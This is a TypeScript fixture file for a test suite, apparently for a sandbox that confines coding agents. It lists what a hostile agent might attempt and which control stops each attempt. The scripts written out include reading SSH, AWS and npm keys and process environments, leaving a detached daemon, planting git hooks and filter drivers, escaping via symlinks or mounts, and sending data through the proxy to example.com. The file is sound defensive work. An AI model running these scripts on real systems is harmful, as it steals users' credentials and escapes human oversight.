/**
 * What a hostile agent tries, each with what stops it. The table in docs/security.md is made of this list, and each attempt is made
 * by attack.test.ts, so that nothing stands there that was not tried.
 */

/** Where things are in the world of an attack; a script finds them in its environment under these names. */
export interface Place {
  HOME: string
  /** The user's checkout, whose `.git` the worktree belongs to. */
  CHECKOUT: string
  /** Another run's worktree. */
  OTHER: string
  /** The throw-away directory of another step. */
  STEP: string
  /** A directory beside all of it. */
  OUTSIDE: string
  /** A port of this machine's loopback, and a socket, where somebody listens. */
  PORT: string
  SOCKET: string
  /** A process of ours with a secret in its environment. */
  VICTIM: string
}

export interface Attempt {
  what: string
  stoppedBy: string
  /** Run by sh in the worktree. */
  script: string
}

const node = (code: string): string => `"$NODE" -e '${code}'`
const NAMESPACE = 'cage: a process namespace of its own'
const HIDDEN = 'cage: hidden from all that run inside'
const READ_ONLY = 'cage: read-only outside of worktree and throw-away directory'

/** Every secret of the world holds this word: an attempt that prints it has won. */
export const LOOT = 'crown-jewels'
/** What is written where nothing may be written has this in its name. */
export const MARK = 'left-behind'

export const CAGED: readonly Attempt[] = [
  {
    what: 'read the environment of every process in `/proc`',
    stoppedBy: NAMESPACE,
    script: 'cat /proc/[0-9]*/environ | tr "\\0" "\\n"',
  },
  { what: 'end a process of ours', stoppedBy: NAMESPACE, script: 'kill -9 "$VICTIM" && echo crown-jewels' },
  {
    what: 'leave a daemon behind in a session of its own',
    stoppedBy: `${NAMESPACE}, which ends with the call`,
    script: '(setsid sleep 86391 >/dev/null 2>&1 &)',
  },
  { what: 'read keys below `$HOME`', stoppedBy: HIDDEN, script: 'cat ~/.ssh/* ~/.npmrc ~/.netrc ~/.aws/*' },
  {
    what: "read the address with a token in the checkout's `.git/config`",
    stoppedBy: HIDDEN,
    script: 'cat "$CHECKOUT/.git/config"; git config --list; git remote -v',
  },
  { what: "read another run's worktree", stoppedBy: HIDDEN, script: 'cat "$OTHER"/*' },
  {
    what: "read another step's prompt and nonce",
    stoppedBy: HIDDEN,
    script: 'cat "$STEP"/*',
  },
  {
    what: "forge another step's artifact",
    stoppedBy: `${HIDDEN}; gate: the nonce`,
    script: 'echo forged > "$STEP/artifact.json" && cat "$STEP/artifact.json"',
  },
  {
    what: 'leave something for the next step in a shared place',
    stoppedBy: 'cage: none is shared',
    script:
      'for d in /tmp /var/tmp /dev/shm /tmp/claude ~/.npm/_logs; do mkdir -p $d; echo x > $d/left-behind; done',
  },
  {
    what: 'write to `$HOME`: a shell start-up file, an SSH key',
    stoppedBy: READ_ONLY,
    script: 'echo x >> ~/.bashrc; mkdir -p ~/.ssh; echo x > ~/.ssh/left-behind; echo x > ~/left-behind',
  },
  {
    what: 'write beside the worktree with `../`',
    stoppedBy: READ_ONLY,
    script: 'echo x > ../left-behind; echo x > "$OUTSIDE/left-behind"',
  },
  {
    what: 'write through a symbolic link that leads out',
    stoppedBy: READ_ONLY,
    script: 'ln -s "$OUTSIDE" out && echo x > out/left-behind; rm -f out',
  },
  {
    what: "write a hook into the checkout's `.git/hooks`",
    stoppedBy: READ_ONLY,
    script: 'echo x > "$CHECKOUT/.git/hooks/left-behind"; git config core.hooksPath "$PWD"',
  },
  {
    what: 'move a ref of the ledger',
    stoppedBy: READ_ONLY,
    script: 'git update-ref refs/orchestrate/left-behind/run HEAD',
  },
  {
    what: "turn the worktree's `.git` to a repository of its own",
    stoppedBy: 'cage: read-only `.git`',
    script: 'rm -f .git; echo "gitdir: $PWD/left-behind" > .git; mv .git left-behind',
  },
  {
    what: 'reach a port of this machine',
    stoppedBy: 'cage: a network of its own',
    script: node(
      'require("net").connect(+process.env.PORT,"127.0.0.1").on("data",(d)=>console.log(String(d))).on("error",()=>{})',
    ),
  },
  {
    what: 'reach it through the proxy, as the agent of another call would',
    stoppedBy: "cage: the proxy's list, one a call, named by 24 random bytes",
    script: node(
      'const p=new URL(process.env.HTTP_PROXY);require("http").get({host:p.hostname,port:p.port,path:"http://127.0.0.1:"+process.env.PORT+"/",headers:{"proxy-authorization":"Basic "+Buffer.from("srt.eA==:"+decodeURIComponent(p.password)).toString("base64")}},(r)=>r.pipe(process.stdout)).on("error",()=>{})',
    ),
  },
  {
    what: 'send what it knows to a host that nobody listed',
    stoppedBy: "cage: the proxy's list",
    script: node(
      'const p=new URL(process.env.HTTP_PROXY);require("http").request({host:p.hostname,port:p.port,method:"CONNECT",path:"example.com:443",headers:{"proxy-authorization":"Basic "+Buffer.from(decodeURIComponent(p.username)+":"+decodeURIComponent(p.password)).toString("base64")}}).on("connect",(r)=>{if(r.statusCode===200)console.log("crown-jewels");process.exit()}).on("response",()=>process.exit()).on("error",()=>{}).end()',
    ),
  },
  {
    what: 'talk to a daemon by its socket',
    stoppedBy: 'cage: no sockets of the local kind (seccomp)',
    script: node(
      'require("net").connect(process.env.SOCKET).on("data",(d)=>console.log(String(d))).on("error",()=>{})',
    ),
  },
  {
    what: 'mount over what is read-only, or make namespaces to do so',
    stoppedBy: 'cage: no capabilities, no calls that mount (seccomp)',
    script:
      'mount -t tmpfs none "$OUTSIDE" && echo crown-jewels; unshare -Urm sh -c "mount -o remount,rw / && echo crown-jewels"; umount -l "$HOME/.ssh" && cat ~/.ssh/*',
  },
]

/** What reaches the worktree is for the gates. `reason`: what the phase stops with. */
export interface Gated extends Attempt {
  reason: string
}

export const GATED: readonly Gated[] = [
  {
    what: 'change a workflow below `.github/`',
    stoppedBy: 'gate: protected paths',
    script: 'mkdir -p .github/workflows; echo x > .github/workflows/ci.yml',
    reason: 'protected-path',
  },
  {
    what: 'commit a symbolic link that leads out of the repository',
    stoppedBy: 'gate: links that lead out',
    script: 'ln -s /etc/passwd passwd',
    reason: 'symlink-out',
  },
  {
    what: 'write `.gitmodules`',
    stoppedBy: 'gate: protected paths',
    script: 'printf "[submodule \\"x\\"]\\npath = x\\nurl = /\\n" > .gitmodules',
    reason: 'protected-path',
  },
  {
    what: 'write more files than any step needs',
    stoppedBy: 'gate: at most 2,000 files a step',
    script: 'mkdir many; i=0; while [ $i -lt "${FILES:-2100}" ]; do : > many/$i; i=$((i+1)); done',
    reason: 'too-many-files',
  },
  {
    what: 'fill the disk',
    stoppedBy:
      'gate: at most 20 MB of changes a step; the wall time of the step. The cage sets no quota: give jobs a disk of their own',
    script: 'head -c "${BYTES:-21000000}" /dev/zero > large',
    reason: 'too-large',
  },
  {
    what: 'answer with the nonce of another step',
    stoppedBy: 'gate: the nonce',
    script: 'ORCHESTRATE_NONCE=0123456789abcdef; echo x > src/alpha.txt',
    reason: 'artifact-stale-nonce',
  },
]

export interface Checkout {
  what: string
  stoppedBy: string
  /** Files of the checkout, executable; OUTSIDE stands for a directory that nothing may be written to. */
  files: Record<string, string>
  /** What the user's own configuration says. */
  config: Record<string, string>
  /** Whether there is a hook that has to run. */
  use: 'hook' | 'none'
}

export const CHECKOUT: readonly Checkout[] = [
  {
    what: "run a project's hook that an agent rewrote (husky: `core.hooksPath` leads into the worktree) with our rights",
    stoppedBy: 'cage: hooks run inside it, and what they stage is taken over',
    files: {
      'pre-commit':
        '#!/bin/sh\necho x > "OUTSIDE/left-behind" || cat ~/.ssh/* > staged.txt\ngit add -A\nexit 0\n',
    },
    config: { 'core.hooksPath': '.' },
    use: 'hook',
  },
  {
    what: 'run a program by `.gitattributes`: a filter, a diff or a merge driver',
    stoppedBy:
      "git: drivers are configured in `.git/config`, which the cage keeps as it is; ours ignore a checkout's own",
    files: {
      '.gitattributes': '*.txt filter=evil diff=evil merge=evil\n',
      '.gitconfig': '[filter "evil"]\n\tclean = touch OUTSIDE/left-behind\n\trequired\n',
    },
    config: {},
    use: 'none',
  },
  {
    what: 'run a program by a file watcher (`core.fsmonitor` leads into the worktree)',
    stoppedBy: 'git: hooks and watchers are switched off in our calls',
    files: { 'fsmonitor.sh': '#!/bin/sh\ntouch "OUTSIDE/left-behind"\n' },
    config: { 'core.fsmonitor': './fsmonitor.sh' },
    use: 'none',
  },
]

/** What programs of agents do with a checkout's files is tried with the real ones. */
export const BY_PROGRAMS: readonly { what: string; stoppedBy: string }[] = [
  {
    what: 'make the agent run hooks, MCP servers, settings or plugins of the checkout',
    stoppedBy: 'how the agent is started; tried with the real programs ([agents.md](agents.md))',
  },
]
